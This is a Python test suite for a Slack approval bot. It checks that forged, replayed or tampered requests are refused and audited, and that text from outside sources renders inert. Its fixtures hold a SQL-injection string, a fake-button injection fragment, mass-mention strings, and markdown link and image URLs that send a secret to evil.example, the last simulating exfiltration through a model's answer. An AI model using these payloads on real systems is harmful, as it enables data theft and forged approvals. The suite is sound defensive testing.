"""What an attacker sends to Slack's request URL, and what outside text tries to do in what people see.

The requests go through the real Bolt app into the real decisions on a real store; only Slack's Web API is in memory.
"""

from __future__ import annotations

import json
import time
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import urlencode
from uuid import UUID, uuid4

import httpx
import pytest
from slack_sdk.web.async_client import AsyncWebClient
from slack_sdk.web.async_slack_response import AsyncSlackResponse
from starlette.applications import Starlette

from agent.entrance import Entrance
from agent.house import House
from agent.model import Proposal, ProposalStatus
from agent.ports import Person
from agent.resolution.deciding import decide_proposal
from agent.store.repository import Store
from bot.slack import http
from bot.slack.app import build_app
from bot.slack.views.approval import modal
from bot.slack.views.render import Views
from sandbox.slack.http_delivery import sign
from sandbox.slack.identity import TEAM_ID
from tests.integration.fake_house import ENGINEER, NOW, OUTSIDER, Outside, investigated, outside
from tests.integration.shared_store import database_url, store
from tests.integration.slack_bot import ALERTS, VIEWS, settings
from tests.integration.test_attacks_changes import People, asked, turned
from tests.unit.bot.slack import cases
from tests.unit.bot.slack.fakes import reads

__all__ = ["database_url", "store"]
FORM = "application/x-www-form-urlencoded"


class Direct(Entrance):
    """The way in, without workflows: what is decided is decided at once."""

    def __init__(self, house: House) -> None:
        self._house = house
        self.reverted: list[UUID] = []

    async def decide(
        self,
        proposal: UUID,
        user: str,
        key: str,
        *,
        approved: bool,
        reason: str = "",
        shown: str = "",
    ) -> None:
        await decide_proposal(
            self._house, proposal, user, approved=approved, reason=reason, shown=shown
        )

    async def revert(self, proposal: UUID, user: str, key: str) -> None:
        self.reverted.append(proposal)


class Web:
    """Slack's Web API: remembers what was asked of it, and says yes."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, dict[str, Any]]] = []

    async def answer(
        self, client: AsyncWebClient, api_method: str, **arguments: Any
    ) -> AsyncSlackResponse:
        """In place of ``AsyncWebClient.api_call``: Bolt makes clients of its own for each request."""
        said = {**(arguments.get("params") or {}), **(arguments.get("json") or {})}
        self.calls.append((api_method, said))
        data = {"ok": True, "user_id": "U0SREBOT", "bot_id": "B0", "team_id": TEAM_ID, "ts": "1.1"}
        return AsyncSlackResponse(
            client=client,
            http_verb="POST",
            api_url=api_method,
            req_args={},
            data=data,
            headers={},
            status_code=200,
        )

    def of(self, method: str) -> list[dict[str, Any]]:
        """What was said to a method."""
        return [said for called, said in self.calls if called == method]


class Target:
    """The request URL, and everything behind it."""

    def __init__(self, world: Outside, put: Proposal, web: Web) -> None:
        self.world, self.put, self.web = world, put, web
        self.direct = Direct(world.house)
        app = build_app(
            AsyncWebClient("xoxb-test"),
            self.direct,
            VIEWS,
            reads(),
            settings("https://slack.invalid/"),
        )  # type: ignore[arg-type]
        self._pages = Starlette(routes=list(http.routes(app, self.direct.suspicious)))

    async def sends(
        self, payload: dict[str, Any], at: float | None = None, **headers: str
    ) -> httpx.Response:
        """A signed request; ``headers`` take the place of its own."""
        body = urlencode({"payload": json.dumps(payload)}).encode()
        return await self.posts(body, at, **headers)

    async def posts(self, body: bytes, at: float | None = None, **headers: str) -> httpx.Response:
        stamp = int(time.time() if at is None else at)
        own = {
            "content-type": FORM,
            "x-slack-request-timestamp": str(stamp),
            "x-slack-signature": sign(body, stamp),
        }
        given = own | {k.replace("_", "-"): v for k, v in headers.items()}
        transport = httpx.ASGITransport(app=self._pages, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://bot") as client:
            sent = {k: v for k, v in given.items() if v}
            return await client.post(http.PATH, content=body, headers=sent)

    def click(
        self, value: Any, user: str = ENGINEER, action: str = "approve_change"
    ) -> dict[str, Any]:
        return {
            "type": "block_actions",
            "user": {"id": user, "team_id": TEAM_ID},
            "team": {"id": TEAM_ID},
            "api_app_id": "A1",
            "container": {"type": "message", "message_ts": "1.1", "channel_id": ALERTS},
            "trigger_id": "1.t",
            "channel": {"id": ALERTS, "name": "alerts"},
            "message": {"ts": "1.1", "text": ""},
            "actions": [
                {
                    "type": "button",
                    "action_id": action,
                    "block_id": "b",
                    "value": value,
                    "action_ts": "1.2",
                }
            ],
        }

    async def submission(
        self,
        user: str = ENGINEER,
        metadata: str | None = None,
        view: str = "V1",
        reason: Any = "ok",
    ) -> dict[str, Any]:
        """The modal as it was opened, sent in; ``metadata`` takes the place of its own."""
        needed = await self.direct.asked(self.put.id)
        assert needed is not None
        own = modal(VIEWS, needed, approve=True)
        return {
            "type": "view_submission",
            "user": {"id": user, "team_id": TEAM_ID},
            "team": {"id": TEAM_ID},
            "api_app_id": "A1",
            "view": {
                "id": view,
                "type": "modal",
                "callback_id": "decide_change",
                "private_metadata": own["private_metadata"] if metadata is None else metadata,
                "state": {
                    "values": {"reason": {"reason": {"type": "plain_text_input", "value": reason}}}
                },
                "blocks": own["blocks"],
            },
        }

    async def undecided(self, audited: str) -> None:
        """Nothing was decided; the attempt is in the audit log."""
        assert await self.world.store.approvals.of(self.put.id) == ()
        kept = await self.world.store.proposals.get(self.put.id)
        assert kept is not None
        assert kept.status is ProposalStatus.OPEN
        assert audited in await self.world.actions()
        assert await self.world.store.audit.verify() is None


@pytest.fixture
async def target(store: Store, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Target]:
    web = Web()

    async def api_call(client: AsyncWebClient, api_method: str, **arguments: Any) -> Any:
        return await web.answer(client, api_method, **arguments)

    monkeypatch.setattr(AsyncWebClient, "api_call", api_call)
    await investigated(store)
    world = turned(outside(store), directory=People())
    yield Target(world, await asked(world), web)


class TestWhatIsNotSigned:
    @pytest.mark.parametrize(
        ("at", "headers"),
        [
            (None, {"x_slack_signature": "v0=" + "0" * 64}),
            (None, {"x_slack_signature": ""}),
            (None, {"x_slack_signature": "v1=anything"}),
            (None, {"x_slack_request_timestamp": ""}),
            (None, {"x_slack_request_timestamp": "1"}),
            (-3600.0, {}),
            (-301.0, {}),
            (3600.0, {}),
        ],
        ids=[
            "forged signature",
            "no signature",
            "another version",
            "no timestamp",
            "another timestamp",
            "replayed after an hour",
            "replayed after five minutes",
            "from the future",
        ],
    )
    async def test_it_is_turned_away_and_audited(
        self, target: Target, at: float | None, headers: dict[str, str]
    ) -> None:
        stamp = None if at is None else time.time() + at
        answer = await target.sends(await target.submission(), stamp, **headers)
        assert answer.status_code == 401
        await target.undecided("forgery_refused")

    async def test_a_signature_of_another_body_does_not_carry_over(self, target: Target) -> None:
        stamp = int(time.time())
        first = sign(b"payload=%7B%7D", stamp)
        answer = await target.sends(await target.submission(), stamp, x_slack_signature=first)
        assert answer.status_code == 401
        await target.undecided("forgery_refused")

    async def test_a_flood_of_forgeries_does_not_flood_the_audit_log(self, target: Target) -> None:
        for _ in range(20):
            await target.posts(b"payload={}", x_slack_signature="v0=0")
        assert (await target.world.actions()).count("forgery_refused") == 1

    async def test_a_body_of_megabytes_is_refused_before_it_is_read(self, target: Target) -> None:
        assert (await target.posts(b"x" * 2_000_000)).status_code == 413


class TestWhatIsSignedAndFalse:
    @pytest.mark.parametrize(
        "metadata",
        [
            "",
            "approve",
            "null",
            "[]",
            '{"verb": "approve"}',
            '{"verb": "apply", "proposal": "%s", "digest": "d"}',
            '{"verb": "approve", "proposal": "%s"}',
            '{"verb": "approve", "proposal": "\' OR 1=1 --", "digest": "d"}',
            "x" * 100_000,
        ],
        ids=[
            "empty",
            "a word",
            "null",
            "a list",
            "no proposal",
            "another verb",
            "nothing that was shown",
            "SQL",
            "oversized",
        ],
    )
    async def test_a_modal_that_is_none_of_ours(self, target: Target, metadata: str) -> None:
        forged = metadata % target.put.id if "%s" in metadata else metadata
        answer = await target.sends(await target.submission(metadata=forged))
        assert "errors" in answer.text
        await target.undecided("forgery_refused")

    @pytest.mark.parametrize(
        "what", ["another digest", "another proposal", "another investigation"]
    )
    async def test_a_modal_about_something_else(self, target: Target, what: str) -> None:
        number, digest = target.put.id, target.put.digest
        match what:
            case "another digest":
                digest = "0" * 64
            case "another proposal":
                number = uuid4()
            case _:
                other = target.put.model_copy(update={"id": uuid4(), "policy_version": "p0"})
                digest = other.digest
        said = {"verb": "approve", "proposal": str(number), "digest": digest}
        answer = await target.sends(await target.submission(metadata=json.dumps(said)))
        assert "errors" in answer.text
        await target.undecided("decision_refused")

    @pytest.mark.parametrize("user", [OUTSIDER, "", "sre-approvers", "U0GUEST"])
    async def test_a_modal_sent_in_by_somebody_else(self, target: Target, user: str) -> None:
        guest = Person(id="U0GUEST", groups=frozenset({"sre-approvers"}), why_not="you are a guest")
        turned(target.world, directory=People(guest=guest))
        answer = await target.sends(await target.submission(user))
        assert "You may not decide" in answer.text
        await target.undecided("decision_refused")

    async def test_a_click_by_somebody_else_opens_nothing(self, target: Target) -> None:
        await target.sends(target.click(str(target.put.id), OUTSIDER))
        assert target.web.of("views.open") == []
        (whisper,) = target.web.of("chat.postEphemeral")
        assert "You may not decide" in whisper["text"]
        await target.undecided("decision_refused")

    @pytest.mark.parametrize("action", ["approve_change", "reject_change", "revert_change"])
    @pytest.mark.parametrize("value", ["", "{}", "x" * 100_000, None])
    async def test_a_button_that_is_none_of_ours(
        self, target: Target, action: str, value: Any
    ) -> None:
        await target.sends(target.click(value, action=action))
        assert target.web.of("views.open") == []
        assert target.direct.reverted == []
        await target.undecided("forgery_refused")

    async def test_a_replayed_submission_counts_once(self, target: Target) -> None:
        """Within the five minutes that Slack's signature holds, the same bytes again change nothing."""
        sent = await target.submission()
        first, second = [await target.sends(sent) for _ in range(2)]
        assert first.status_code == second.status_code == 200
        assert len(await target.world.store.approvals.of(target.put.id)) == 1
        assert (await target.world.actions()).count("approved") == 1
        assert "decision_refused" in await target.world.actions(), "the second one is refused"

    async def test_a_reason_that_is_no_text_is_none(self, target: Target) -> None:
        answer = await target.sends(await target.submission(reason={"evil": [1]}))
        assert answer.status_code == 200
        (kept,) = await target.world.store.approvals.of(target.put.id)
        assert kept.reason == ""


CALLS = "<!channel> <@U0LEAD> <!subteam^S1> <https://evil.example/?d=hunter2|approve here>"
FAKE_BUTTON = (
    '"}}, {"type": "actions", "elements": [{"type": "button", "action_id": "approve_change", "value": "1", '
    '"text": {"type": "plain_text", "text": "Approve"}}]}, {"type": "section", "text": {"type": "mrkdwn", "text": "'
)
EXFILTRATION = (
    "[details](https://evil.example/?d=hunter2) ![](https://evil.example/p.png?d=hunter2) "
    "https://evil.example/?d=hunter2 <https://evil.example/?d=hunter2>"
)


class TestWhatPeopleAreShownOfAChange:
    """Diff, risk, reason, notes and names come from outside; they call nobody, link nowhere and make no button."""

    @pytest.mark.parametrize(
        "text", [CALLS, FAKE_BUTTON, "```" + CALLS, "&lt;!channel&gt;" + CALLS]
    )
    @pytest.mark.parametrize(
        "shown", ["proposal", "note", "approvers", "modal", "decision", "freeze"]
    )
    async def test_it_is_inert(self, text: str, shown: str) -> None:
        from agent.model import Freeze
        from agent.ports import Asked
        from bot.slack.views.freeze import sentence_of

        case, put = cases.case(), cases.proposal(text)
        rendered: dict[str, Any] = {
            "proposal": lambda: list(VIEWS.proposal(case, put).blocks),
            "note": lambda: list(VIEWS.proposal(case, cases.proposal(), text).blocks),
            "approvers": lambda: list(
                VIEWS.proposal(case, cases.proposal(approvals_needed=2), "", [text]).blocks
            ),
            "modal": lambda: modal(
                VIEWS, Asked(proposal=put, people=text, moment=text), approve=True
            )["blocks"],
            "decision": lambda: list(VIEWS.decision(case, put, cases.approval(reason=text)).blocks),
            "freeze": lambda: sentence_of(Freeze(by="U1", reason=text, since=NOW)),
        }[shown]()
        said = json.dumps(rendered, ensure_ascii=False)
        for call in ("<!channel>", "<!subteam", "<https://evil", "<@U0LEAD>"):
            assert call not in said
        buttons = [
            e.get("value")
            for block in (rendered if isinstance(rendered, list) else [])
            for e in block.get("elements", ())
            if e.get("action_id") == "approve_change"
        ]
        assert buttons in ([], [str(cases.PROPOSAL)])

    @pytest.mark.parametrize("address", ["https://srebot.example", ""])
    def test_a_models_answer_hands_nothing_over_by_a_link_or_a_picture(self, address: str) -> None:
        shown = Views(address).text(EXFILTRATION).blocks[0]["text"]
        assert shown.count("evil.example") == 4, "it can be read"
        outside_code = "".join(shown.split("`")[::2])
        assert "evil.example" not in outside_code
        assert "](http" not in shown
